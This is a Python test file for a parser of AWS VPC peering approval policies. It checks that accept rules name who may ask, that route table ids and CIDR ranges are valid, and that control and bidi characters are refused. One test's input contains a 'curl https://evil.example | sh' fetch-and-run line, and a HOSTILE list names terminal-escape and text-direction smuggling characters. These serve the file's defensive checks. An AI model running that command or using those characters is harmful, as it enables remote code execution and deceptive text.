    custom = {**base, "cleanup": {"remindBeforeExpiryHours": [24, 72, 1]}}
    assert parse_policy(json.dumps(custom)).cleanup.to_options().remind_before_expiry_hours == (72, 24, 1)
    assert parse_policy(json.dumps({**base, "cleanup": {"remindBeforeExpiryHours": []}})).cleanup.to_options() == (
        CleanupOptions(remind_before_expiry_hours=())
    )


@pytest.mark.parametrize(
    ("points", "expected"),
    [([0], "outside 1..167"), ([168], "outside 1..167"), ([24, 24], "must be unique"), (["soon"], "valid integer")],
)
def test_bad_reminder_points_are_refused(points: list[object], expected: str) -> None:
    document = {"schemaVersion": 1, "version": "r1", "cleanup": {"remindBeforeExpiryHours": points}}
    with pytest.raises(PolicyError, match=expected):
        parse_policy(json.dumps(document))


# --- guard rails: an accept rule names who may ask; text is one line of visible characters -------


@pytest.mark.parametrize(
    "rule_doc",
    [
        {"name": "r", "action": "accept"},  # the one-line policy that accepted the world
        {"name": "r", "action": "accept", "accepter": {"vpcTag": {"key": "peering-autopilot:accept"}}},
        {"name": "r", "action": "accept", "requester": {"regions": ["us-east-1"]}},
        {"name": "r", "action": "accept", "requester": {}},
    ],
)
def test_an_accept_rule_must_name_who_may_ask(rule_doc: dict[str, object]) -> None:
    message = _error(_doc(rules=[rule_doc]))
    assert "rules.0: Value error, accept rule 'r' must say who may ask" in message
    assert "requester: {anyone: true}" in message


@pytest.mark.parametrize(
    "requester",
    [{"accounts": [MEMBER_ACCOUNT]}, {"organizationalUnits": [PLATFORM_OU]}, {"organization": "self"}, ANYONE],
)
def test_an_accept_rule_naming_accounts_ous_an_organization_or_anyone_is_valid(requester: dict[str, object]) -> None:
    got = parse_policy(_doc(rules=[{"name": "r", "action": "accept", "requester": requester}]))
    assert got.rules[0].accepts_anyone is (requester == ANYONE)


def test_hold_and_reject_rules_need_no_requester() -> None:
    got = parse_policy(_doc(rules=[{"name": "pci", "action": "reject", "accepter": {"vpcTag": {"key": "pci"}}}]))
    assert got.warnings() == []


def test_anyone_accepts_any_account_in_the_world_and_is_warned_about() -> None:
    doc = parse_policy(
        _doc(rules=[{"name": "open", "action": "accept", "requester": {"anyone": True, "regions": [REGION]}}])
    )
    stranger = identity(account=OUTSIDER_ACCOUNT, org_id=None, ou_path=())
    assert _verdict(doc, stranger, vpc(), None) is Verdict.ACCEPT
    assert _verdict(doc, identity(account=OUTSIDER_ACCOUNT, region=OTHER_REGION), vpc(), None) is Verdict.HOLD
    assert doc.warnings() == [
        "rule 'open' accepts peering requests from ANY AWS account in the world (requester.anyone: true); "
        "anyone who learns a matching VPC id can get a network path into it"
    ]


@pytest.mark.parametrize(
    ("requester", "expected"),
    [
        ({"anyone": False}, "anyone: false means nothing"),
        ({"anyone": True, "accounts": [MEMBER_ACCOUNT]}, "cannot be combined with accounts"),
        ({"anyone": True, "organization": "self"}, "cannot be combined with accounts"),
        ({"anyone": "yes"}, "rules.0.requester.anyone: Input should be a valid boolean"),
    ],
)
def test_anyone_means_true_and_alone(requester: dict[str, object], expected: str) -> None:
    assert expected in _error(_doc(rules=[{"name": "r", "action": "accept", "requester": requester}]))


HOSTILE = [
    "\n",  # a fake second line in a notification
    "\r",
    "\t",
    "\x1b",  # terminal escape
    "\x00",
    "\x7f",  # DEL
    "\x85",  # C1 next line
    "\x9b",  # C1 control sequence introducer
    "\u202e",  # right-to-left override
    "\u2066",  # left-to-right isolate
    "\u2069",  # pop directional isolate
    "\u200b",  # zero width space
    "\u200f",  # right-to-left mark
    "\u2028",  # line separator
    "\ufeff",  # zero width no-break space
]


def _rule_with(where: str, text: str) -> tuple[dict[str, object], str]:
    """A document with ``text`` in one free string, and the location its error names."""
    accept = {"name": "r", "action": "accept", "requester": {"accounts": [MEMBER_ACCOUNT]}}
    places: dict[str, tuple[dict[str, object], str]] = {
        "version": ({"version": f"v{text}1", "rules": [accept]}, "version"),
        "name": ({"rules": [{**accept, "name": f"r{text}"}]}, "rules.0.name"),
        "description": ({"rules": [{**accept, "description": f"ok{text}run this"}]}, "rules.0.description"),
        "tag key": (
            {"rules": [{**accept, "accepter": {"vpcTag": {"key": f"k{text}"}}}]},
            "rules.0.accepter.vpcTag.key",
        ),
        "tag value": (
            {"rules": [{**accept, "accepter": {"vpcTag": {"key": "k", "value": f"v{text}"}}}]},
            "rules.0.accepter.vpcTag.value",
        ),
        "organization": (
            {"rules": [{**accept, "requester": {"organization": f"o-{text}"}}]},
            "rules.0.requester.organization",
        ),
        "OU": (
            {"rules": [{**accept, "requester": {"organizationalUnits": [f"ou-{text}"]}}]},
            "rules.0.requester.organizationalUnits.0",
        ),
        "region": (
            {"rules": [{**accept, "requester": {"accounts": [MEMBER_ACCOUNT], "regions": [f"us{text}"]}}]},
            "rules.0.requester.regions.0",
        ),
        "VPC id": ({"rules": [{**accept, "accepter": {"vpcIds": [f"vpc-{text}"]}}]}, "rules.0.accepter.vpcIds.0"),
        "routing tag": (
            {"routing": {"routeTables": {"select": "tagged", "tag": {"key": f"k{text}"}}}},
            "routing.routeTables.tag.key",
        ),
    }
    overrides, location = places[where]
    base: dict[str, object] = {"schemaVersion": 1, "version": "v1", "rules": []}
    return {**base, **overrides}, location


@pytest.mark.parametrize("character", HOSTILE, ids=[f"U+{ord(c):04X}" for c in HOSTILE])
@pytest.mark.parametrize(
    "where",
    ["version", "name", "description", "tag key", "tag value", "organization", "OU", "region", "VPC id", "routing tag"],
)
def test_text_fields_refuse_control_bidi_and_invisible_characters(where: str, character: str) -> None:
    document, location = _rule_with(where, character)
    message = _error(json.dumps(document))
    assert f"{location}: Value error, character " in message
    assert f"is U+{ord(character):04X}" in message
    assert character not in message  # the message shows the code point, never the character


def test_only_those_characters_are_refused_not_other_scripts() -> None:
    document, _ = _rule_with("description", " — équipe réseau, 東京 ")
    assert parse_policy(json.dumps(document)).rules[0].description == "ok — équipe réseau, 東京 run this"
    hidden, _ = _rule_with("description", " — équipe réseau\u202e, 東京 ")
    assert "character 19 is U+202E (RIGHT-TO-LEFT OVERRIDE)" in _error(json.dumps(hidden))


def test_a_yaml_block_scalar_that_ends_in_a_newline_is_refused_with_a_hint() -> None:
    text = "schemaVersion: 1\nversion: |\n  2024-06-01\n  $ aws ssm put-parameter ...\nrules: []\n"
    message = _error(text)
    assert "version: Value error, character 11 is U+000A" in message
    assert "folded scalar '>-'" in message


def test_an_error_quoting_a_hostile_key_escapes_it() -> None:
    message = _error(_doc(rules=[{"name": "r", "action": "hold", "x\n\u202eevil": 1}]))
    assert "rules.0.x\\u000a\\u202eevil: Extra inputs are not permitted" in message
    assert "\n" not in message


def test_a_yaml_error_quotes_the_document_on_one_line() -> None:
    # The reason of every held request while the policy is broken: no line of it is the author's.
    message = _error("schemaVersion: 1\nversion: x\nrules: [\n  {name: a}\n  $ curl https://evil.example | sh\n")
    assert message.startswith("the approval policy is not valid YAML/JSON: ")
    assert "\n" not in message
    assert "\\u000a" in message


# --- route tables by id (routeTables.select: ids) ------------------------------------------------

TABLE_A = "rtb-0123456789abcdef0"
TABLE_B = "rtb-89abcdef"


def test_route_tables_by_id_become_the_options_of_the_document_and_of_a_rule() -> None:
    document = parse_policy(
        _doc(
            routing={"routeTables": {"select": "ids", "ids": [TABLE_A, TABLE_B, TABLE_A]}},
            rules=[_accept_rule("narrow", {"routeTables": {"select": "ids", "ids": [TABLE_B]}}), _accept_rule("plain")],
        )
    )

    by_document = document.routing_options(None, RoutingOptions())
    by_rule = document.routing_options("narrow", RoutingOptions())

    assert (by_document.selection.value, by_document.table_ids) == ("ids", (TABLE_A, TABLE_B))  # each id once
    assert (by_rule.selection.value, by_rule.table_ids) == ("ids", (TABLE_B,))
    assert document.routing_options("plain", RoutingOptions()).table_ids == (TABLE_A, TABLE_B)


@pytest.mark.parametrize(
    ("route_tables", "expected"),
    [
        ({"select": "ids"}, "routeTables.select 'ids' needs routeTables.ids"),
        ({"select": "ids", "ids": []}, "routing.routeTables.ids: List should have at least 1 item"),
        ({"select": "all", "ids": [TABLE_A]}, "routeTables.ids goes with select 'ids' (select is 'all')"),
        ({"select": "tagged", "tag": {"key": "t"}, "ids": [TABLE_A]}, "routeTables.ids goes with select 'ids'"),
        (
            {"select": "ids", "ids": ["rtb-0123456789ABCDEF0"]},
            "routing.routeTables.ids.0: Value error, 'rtb-0123456789ABCDEF0' is not",
        ),
        ({"select": "ids", "ids": [TABLE_A, "subnet-0123456789abcdef0"]}, "routing.routeTables.ids.1:"),
        ({"select": "ids", "ids": ["rtb-0123"]}, "is not a route table id (rtb- and 8 or 17 hexadecimal digits)"),
        ({"select": "ids", "ids": [f"{TABLE_A}\n"]}, "is not a route table id"),
        ({"select": "ids", "ids": [1234]}, "routing.routeTables.ids.0: Input should be a valid string"),
        ({"select": "ids", "ids": TABLE_A}, "routing.routeTables.ids: Input should be a valid list"),
    ],
)
def test_route_table_ids_are_checked(route_tables: dict[str, object], expected: str) -> None:
    assert expected in _error(_doc(routing={"routeTables": route_tables}))


def test_a_rule_routing_with_a_bad_route_table_id_is_refused_at_that_id() -> None:
    rule_doc = _accept_rule("r", {"routeTables": {"select": "ids", "ids": [TABLE_A, "rtb-xyz"]}})
    assert "rules.0.routing.routeTables.ids.1: Value error, 'rtb-xyz' is not a route table id" in _error(
        _doc(rules=[rule_doc])
    )


# --- matching the requester VPC's tags and either VPC's blocks -----------------------------------

PLATFORM_TAG = {"key": "team", "value": "platform"}
IN_ORG: dict[str, object] = {"organization": "self"}


def _requester_vpc(
    tags: dict[str, str] | None = None, cidrs: tuple[str, ...] = ("10.1.0.0/16",), ipv6: tuple[str, ...] = ()
) -> RequesterVpc:
    return RequesterVpc("vpc-requester", cidrs, ipv6, tags)


def _decide(requester: dict[str, object], facts: RequesterVpc | None, accepter: dict[str, object] | None = None) -> str:
    doc = policy(rule("r", "accept", requester, accepter))
    got = evaluate(doc, identity(), vpc(cidrs=("10.0.0.0/16",)), ORG_ID, facts)
    return got.verdict.value


def test_requester_vpc_tags_match_when_the_vpc_carries_every_tag_listed() -> None:
    tags = {**IN_ORG, "vpcTags": [PLATFORM_TAG, {"key": "env"}]}

    assert _decide(tags, _requester_vpc({"team": "platform", "env": ""})) == "accept"
    assert _decide(tags, _requester_vpc({"team": "platform"})) == "hold"  # env missing: all are needed
    assert _decide(tags, _requester_vpc({"team": "Platform", "env": "prod"})) == "hold"  # values are exact
    assert _decide(tags, _requester_vpc({})) == "hold"


def test_requester_tags_that_are_unknown_never_match_a_tag_rule() -> None:
    """A requester outside the organization: its tags were not read in its account (None)."""
    tags = {**IN_ORG, "vpcTags": [PLATFORM_TAG]}
    outsider = evaluate(
        policy(
            rule("tagged-reject", "reject", {"vpcTags": [PLATFORM_TAG]}),
            rule("by-account", "accept", {"accounts": [OUTSIDER_ACCOUNT]}),
        ),
        identity(account=OUTSIDER_ACCOUNT, org_id=None, ou_path=()),
        vpc(),
        ORG_ID,
        _requester_vpc(None),
    )

    assert _decide(tags, _requester_vpc(None)) == "hold"
    assert _decide(tags, None) == "hold"  # nothing known of the requester VPC
    held = evaluate(policy(rule("r", "accept", tags)), identity(org_id=None), vpc(), ORG_ID, _requester_vpc(None))
    assert held.reasons[1].startswith("the requester VPC's tags cannot be read in its account")
    known = evaluate(policy(rule("r", "accept", tags)), identity(), vpc(), ORG_ID, _requester_vpc({}))
    assert len(known.reasons) == 1  # known and not carried: the usual reason only
    assert (outsider.verdict, outsider.rule) == (Verdict.ACCEPT, "by-account")  # nor a reject by tag


def test_within_matches_when_every_block_lies_in_one_of_the_ranges() -> None:
    within = {**IN_ORG, "within": ["10.0.0.0/12", "172.16.0.0/12", "fd00::/8"]}

    assert _decide(within, _requester_vpc(cidrs=("10.1.0.0/16",))) == "accept"
    assert _decide(within, _requester_vpc(cidrs=("10.1.0.0/16", "172.20.0.0/16"), ipv6=("fd12::/56",))) == "accept"
    assert _decide(within, _requester_vpc(cidrs=("10.1.0.0/16", "10.64.0.0/16"))) == "hold"  # a secondary outside
    assert _decide(within, _requester_vpc(ipv6=("2600:1f18::/56",))) == "hold"  # an IPv6 block outside
    assert _decide(within, _requester_vpc(cidrs=("10.0.0.0/8",))) == "hold"  # wider than the range
    assert _decide(within, _requester_vpc(cidrs=())) == "hold"  # no block known: no match
    assert _decide(within, None) == "hold"


def test_accepter_within_looks_at_the_accepter_vpc_blocks() -> None:
    doc = policy(rule("r", "accept", IN_ORG, {"within": ["10.0.0.0/16"]}))
    inside = vpc(cidrs=("10.0.0.0/17", "10.0.128.0/17"))
    outside = vpc(cidrs=("10.0.0.0/16", "10.9.0.0/16"))
    with_ipv6 = vpc(cidrs=("10.0.0.0/16",), ipv6=("2600:1f18::/56",))

    assert evaluate(doc, identity(), inside, ORG_ID).verdict is Verdict.ACCEPT
    assert evaluate(doc, identity(), outside, ORG_ID).verdict is Verdict.HOLD
    assert evaluate(doc, identity(), with_ipv6, ORG_ID).verdict is Verdict.HOLD  # IPv6 is a block too


def test_new_criteria_keep_precedence_a_reject_by_range_beats_an_accept_by_tag() -> None:
    doc = policy(
        rule("tagged", "accept", {**IN_ORG, "vpcTags": [PLATFORM_TAG]}),
        rule("no-public-ranges", "reject", accepter={"within": ["0.0.0.0/0"]}),
    )
    got = evaluate(doc, identity(), vpc(cidrs=("10.0.0.0/16",)), ORG_ID, _requester_vpc({"team": "platform"}))

    assert (got.verdict, got.rule) == (Verdict.REJECT, "no-public-ranges")
    assert got.reasons == ("rule 'no-public-ranges' says reject", "it overrides 'tagged'")


@pytest.mark.parametrize(
    ("requester", "expected"),
    [
        (
            {**IN_ORG, "within": ["10.0.0.1/8"]},
            "rules.0.requester.within.0: Value error, '10.0.0.1/8' is not a network",
        ),
        ({**IN_ORG, "within": ["10.0.0.0/8", "10.0.0.0/33"]}, "rules.0.requester.within.1: Value error, '10.0.0.0/33'"),
        ({**IN_ORG, "within": "10.0.0.0/8"}, "rules.0.requester.within: Input should be a valid list"),
        ({**IN_ORG, "vpcTags": {"key": "team"}}, "rules.0.requester.vpcTags: Input should be a valid list"),
        ({**IN_ORG, "vpcTags": [{"value": "x"}]}, "rules.0.requester.vpcTags.0.key: Field required"),
        ({**IN_ORG, "vpcTags": [{"key": "team\u202e"}]}, "U+202E"),
        ({**IN_ORG, "vpcTag": PLATFORM_TAG}, "rules.0.requester.vpcTag: Extra inputs are not permitted"),
        ({"anyone": True, "vpcTags": [PLATFORM_TAG]}, "anyone: true cannot be combined with vpcTags"),
        ({"vpcTags": [PLATFORM_TAG]}, "must say who may ask"),  # tags say nothing of who asks
        ({"within": ["10.0.0.0/8"]}, "must say who may ask"),
    ],
)
def test_requester_tags_and_ranges_are_checked(requester: dict[str, object], expected: str) -> None:
    assert expected in _error(_doc(rules=[rule("r", "accept", requester)]))


def test_anyone_may_still_be_narrowed_by_ranges() -> None:
    document = parse_policy(_doc(rules=[rule("r", "accept", {"anyone": True, "within": ["10.0.0.0/8"]})]))
    assert document.rules[0].accepts_anyone  # still warned about: anyone in the world with such a VPC


def test_accepter_ranges_are_checked() -> None:
    got = _error(_doc(rules=[rule("r", "reject", accepter={"within": ["fd00::1/8"]})]))
    assert "rules.0.accepter.within.0: Value error, 'fd00::1/8' is not a network" in got
